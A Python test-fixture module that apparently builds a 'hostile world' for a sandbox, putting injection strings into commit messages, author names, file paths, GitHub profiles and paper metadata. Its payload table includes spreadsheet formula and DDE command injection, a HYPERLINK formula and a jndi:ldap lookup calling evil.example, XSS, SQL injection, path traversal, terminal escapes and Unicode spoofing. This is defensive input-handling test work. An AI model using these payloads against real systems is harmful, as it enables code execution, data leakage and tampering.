"""A small world in which people attack whoever reads about them: every name, title, path and profile carries something."""

from collections.abc import Iterator
from dataclasses import dataclass, replace

from sandbox.github_records import Account
from sandbox.github_world import GithubWorld
from sandbox.records import Commit, Paper, Repository
from sandbox.world import World, build_world

ATTACKS = {
    "formula": '=HYPERLINK("https://evil.example/"&A1,"click")',
    "command formula": "+cmd|' /C calc'!A0",
    "formula at sign": "@SUM(1+1)*cmd",
    "formula after a tab": "\t=1+1",
    "terminal title and screen": "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "terminal C1 control": "\x9b31m\x90payload\x9c",
    "direction override": "\u202egnp.exe\u2066",
    "hidden letters": "\u200b\u2060\U000e0041\U000e0042",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "SQL": "'); DROP TABLE people; --",
    "CSV quoting": '","=1+1","',
    "path traversal": "../../../../etc/cron.d/owned",
    "format string": "%s%n{0.__class__}${jndi:ldap://evil.example/x}",
    "template": "{{ 7 * 7 }}{% raw %}",
    "Markdown table": "| x | y |\n\n# owned",
    "script address": "javascript:alert(1)//",
    "enormous": "A" * 200_000,
}
ONLY_IN_XML_UNFIT = {chr(code) for code in (*range(9), 11, 12, *range(14, 32))}
HOSTILE_PATHS = ("=cmd|calc.py", "kernels/\x1b[31mred.cu", "rag/\u202eyp.reverir", "rag/a\nb.py", "rag/'; DROP TABLE.sql", "rag/%2e%2e%2f.py")
GIT_NAME = str.maketrans("", "", "<>\n\x00")
NAME_LENGTH = 2_000


@dataclass(frozen=True)
class HostileWorld(World):
    """A world whose commits carry attacks in subject, author name and paths."""

    def commits_of(self, repository: Repository, night: int = 0) -> Iterator[Commit]:
        """Yield the world's commits, every one of them with an attack."""
        for commit in super().commits_of(repository, night):
            attack = _attack(commit.number)
            name = f"{attack.translate(GIT_NAME)[:NAME_LENGTH]} {commit.author.name}".strip()
            path = HOSTILE_PATHS[commit.number % len(HOSTILE_PATHS)]
            yield replace(
                commit,
                message=f"{attack} {commit.message}",
                author=replace(commit.author, name=name),
                changes=(*commit.changes, (path, commit.number)) if commit.changes else commit.changes,
            )


def build_hostile_world(seed: int = 5) -> HostileWorld:
    """Return the hostile world of a seed: 20 people, 4 repositories, 40 papers."""
    world = build_world(seed, people=20, repositories=4, commits=240, papers=40, vendored_paths=10)
    papers = tuple(_hostile_paper(at, paper) for at, paper in enumerate(world.papers))
    return HostileWorld(world.seed, world.people, world.repositories, papers)


def make_hostile(github: GithubWorld) -> GithubWorld:
    """Return a GitHub whose people fill in their profiles with attacks."""
    return replace(github, accounts=tuple(_hostile_account(at, account) for at, account in enumerate(github.accounts)))


def _hostile_account(at: int, account: Account) -> Account:
    attack = _attack(at)[:NAME_LENGTH]
    return replace(account, name=f"{attack} {account.name or account.login}", company=attack, location=f"{attack} Berlin",
                   bio=attack, website_url=attack)  # fmt: skip


def _hostile_paper(at: int, paper: Paper) -> Paper:
    attack = "".join(letter for letter in _attack(at) if letter not in ONLY_IN_XML_UNFIT)
    first = replace(paper.authors[0], affiliation=attack[:NAME_LENGTH])
    return replace(paper, title=f"{attack} {paper.title}", abstract=f"{paper.abstract} {attack}", comments=attack[:NAME_LENGTH],
                   authors=(first, *paper.authors[1:]))  # fmt: skip


def _attack(at: int) -> str:
    return list(ATTACKS.values())[at % len(ATTACKS)]
